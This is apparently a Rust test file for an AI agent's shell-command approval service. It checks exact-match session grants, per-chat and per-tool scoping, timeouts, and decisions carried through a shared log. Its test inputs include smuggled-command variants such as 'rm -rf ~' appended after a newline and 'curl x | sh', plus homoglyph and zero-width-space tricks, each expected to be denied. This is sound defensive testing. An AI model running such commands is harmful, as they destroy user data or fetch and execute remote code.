#![allow(clippy::unwrap_used)]

use std::sync::Arc;
use std::time::Duration;

use valor_protocol::approval::{ApprovalAsk, ApprovalKind, Decision};
use valor_protocol::{Event, Events, Op, UserTurn};

use crate::approvals::{ApprovalLog, ApprovalSettings, InMemoryApprovalLog};
use crate::conversation::{Conversations, Settings};
use crate::engine::{ConversationStore, Engine};
use crate::scripted::{Scripted, ScriptedBackend};
use crate::store::InMemoryStore;

/// A service whose turns run for a minute (so an approval has a turn to ask in).
fn service(settings: ApprovalSettings, log: Arc<dyn ApprovalLog>) -> Conversations {
    let backend = ScriptedBackend::new(|_| Scripted::Text {
        text: "word ".repeat(60),
        pieces: 60,
        every: Duration::from_secs(1),
    });
    let store = Arc::new(InMemoryStore::default()) as Arc<dyn ConversationStore>;
    let engine = Engine::builder(
        Arc::new(backend),
        store,
        crate::ModelRouter::new(valor_config::RoutingConfig::default()),
    )
    .build();
    let service = Conversations::with_approvals(engine, None, Settings::default(), settings);
    service.set_approval_log(log);
    service
}

fn command(chat_id: i64, command: &str) -> ApprovalAsk {
    ApprovalAsk {
        chat_id,
        kind: ApprovalKind::Command,
        tool: "Bash".to_owned(),
        what: command.to_owned(),
        sentence: "Runs this shell command.".to_owned(),
        claimed: None,
        exact: command.to_owned(),
    }
}

/// Reads the turn's events until its approval question; its id.
async fn question(events: &mut Events) -> u64 {
    loop {
        match events.next().await {
            Some(Event::ApprovalNeeded(approval)) => return approval.id,
            Some(_) => {}
            None => panic!("the turn ended without a question"),
        }
    }
}

async fn settled(events: &mut Events) -> (Decision, String) {
    loop {
        match events.next().await {
            Some(Event::ApprovalSettled { decision, line, .. }) => return (decision, line),
            Some(_) => {}
            None => panic!("the turn ended without the question settled"),
        }
    }
}

async fn decide(service: &Conversations, chat_id: i64, id: u64, decision: Decision) -> String {
    let mut events = service.submit(Op::Decide {
        chat_id,
        approval: id,
        decision,
        by: Some(9),
    });
    match events.next().await {
        Some(Event::Decided(word)) => word,
        other => panic!("{other:?}"),
    }
}

#[tokio::test(start_paused = true)]
async fn a_decision_reaches_the_turn_and_only_an_exact_grant_rides_on_it() {
    let log = Arc::new(InMemoryApprovalLog::default());
    let service = service(ApprovalSettings::default(), log.clone());
    let mut events = service.submit(Op::UserTurn(UserTurn::new(5, "go")));
    let asking = tokio::spawn({
        let service = service.clone();
        async move { service.ask_approval(command(5, "git status")).await }
    });
    let id = question(&mut events).await;
    // Another chat cannot decide it; the chat's own press does.
    assert_eq!(
        decide(&service, 6, id, Decision::AllowOnce).await,
        "This approval is not from this chat."
    );
    assert_eq!(
        decide(&service, 5, id, Decision::AllowSession).await,
        "Allowed for this session."
    );
    assert_eq!(asking.await.unwrap(), Decision::AllowSession);
    let (decision, line) = settled(&mut events).await;
    assert_eq!(decision, Decision::AllowSession);
    assert!(
        line.contains("allowed for the session by 9: git status"),
        "{line}"
    );
    assert_eq!(
        decide(&service, 5, id, Decision::Deny).await,
        "This approval is no longer open."
    );
    // The same bytes ride on the grant; nothing else does.
    assert_eq!(
        service.ask_approval(command(5, "git status")).await,
        Decision::SessionGrant
    );
    for variant in [
        "git status\nrm -rf ~",
        "git status ",
        " git status",
        "git  status",
        "git status; curl x | sh",
        "env git status",
        "sh -c 'git status'",
        "gіt status",
        "git status\u{200b}",
    ] {
        let asking = tokio::spawn({
            let service = service.clone();
            let ask = command(5, variant);
            async move { service.ask_approval(ask).await }
        });
        let id = question(&mut events).await;
        decide(&service, 5, id, Decision::Deny).await;
        assert_eq!(asking.await.unwrap(), Decision::Deny, "{variant:?}");
    }
    // A grant is the chat's and the tool's: another chat or tool is asked again.
    let mut other = command(6, "git status");
    assert_eq!(
        service.ask_approval(other.clone()).await,
        Decision::Unattended
    );
    other.chat_id = 5;
    other.tool = "Write".to_owned();
    let asking = tokio::spawn({
        let service = service.clone();
        async move { service.ask_approval(other).await }
    });
    let id = question(&mut events).await;
    decide(&service, 5, id, Decision::Deny).await;
    assert_eq!(asking.await.unwrap(), Decision::Deny);
    // `/new` ends the grants.
    service.submit(Op::NewConversation { chat_id: 5 });
    let asking = tokio::spawn({
        let service = service.clone();
        async move { service.ask_approval(command(5, "git status")).await }
    });
    let id = question(&mut events).await;
    decide(&service, 5, id, Decision::Deny).await;
    assert_eq!(asking.await.unwrap(), Decision::Deny);
    // Every decision is in the log, newest first.
    let kept = log.latest(Some(5), 100).await.unwrap();
    assert_eq!(kept[0].decision, Some(Decision::Deny));
    assert!(
        kept.iter()
            .any(|r| r.decision == Some(Decision::SessionGrant))
    );
    assert!(kept.iter().all(|r| r.decision.is_some()));
}

#[tokio::test(start_paused = true)]
async fn no_answer_in_time_denies_and_nobody_to_ask_denies_at_once() {
    let log = Arc::new(InMemoryApprovalLog::default());
    let settings = ApprovalSettings {
        timeout: Duration::from_secs(30),
        ..ApprovalSettings::default()
    };
    let service = service(settings, log.clone());
    // No turn of the chat runs: nobody reads it.
    let started = tokio::time::Instant::now();
    assert_eq!(
        service.ask_approval(command(5, "ls")).await,
        Decision::Unattended
    );
    assert!(started.elapsed() < Duration::from_secs(1));
    let mut events = service.submit(Op::UserTurn(UserTurn::new(5, "go")));
    let asking = tokio::spawn({
        let service = service.clone();
        async move { service.ask_approval(command(5, "ls")).await }
    });
    let id = question(&mut events).await;
    let started = tokio::time::Instant::now();
    assert_eq!(asking.await.unwrap(), Decision::TimedOut);
    assert!(started.elapsed() >= Duration::from_secs(30));
    assert_eq!(settled(&mut events).await.0, Decision::TimedOut);
    assert_eq!(
        log.get(id).await.unwrap().unwrap().decision,
        Some(Decision::TimedOut)
    );
    // A stopped turn takes its open question with it: denied.
    let asking = tokio::spawn({
        let service = service.clone();
        async move { service.ask_approval(command(5, "ls -la")).await }
    });
    question(&mut events).await;
    service.submit(Op::Interrupt { chat_id: 5 });
    assert_eq!(asking.await.unwrap(), Decision::Deny);
}

#[tokio::test(start_paused = true)]
async fn on_several_machines_a_press_on_another_node_decides_through_the_shared_log() {
    let log = Arc::new(InMemoryApprovalLog::default());
    let shared = ApprovalSettings {
        shared: true,
        node: Some("worker".to_owned()),
        ..ApprovalSettings::default()
    };
    let worker = service(shared.clone(), log.clone());
    let ingress = service(
        ApprovalSettings {
            node: Some("ingress".to_owned()),
            ..shared
        },
        log.clone(),
    );
    let mut events = worker.submit(Op::UserTurn(UserTurn::new(5, "go")));
    let asking = tokio::spawn({
        let worker = worker.clone();
        async move { worker.ask_approval(command(5, "make deploy")).await }
    });
    let id = question(&mut events).await;
    assert_eq!(
        log.get(id).await.unwrap().unwrap().node.as_deref(),
        Some("worker")
    );
    // The press lands on the ingress node, which asked nothing: the log carries it over.
    assert_eq!(
        decide(&ingress, 6, id, Decision::AllowOnce).await,
        "This approval is not from this chat."
    );
    assert_eq!(
        decide(&ingress, 5, id, Decision::AllowOnce).await,
        "Allowed once."
    );
    assert_eq!(asking.await.unwrap(), Decision::AllowOnce);
    assert_eq!(settled(&mut events).await.0, Decision::AllowOnce);
    // The first decision stands: a second press anywhere changes nothing.
    assert_eq!(
        decide(&ingress, 5, id, Decision::Deny).await,
        "Already decided."
    );
    let kept = log.get(id).await.unwrap().unwrap();
    assert_eq!(
        (kept.decision, kept.by),
        (Some(Decision::AllowOnce), Some(9))
    );
}
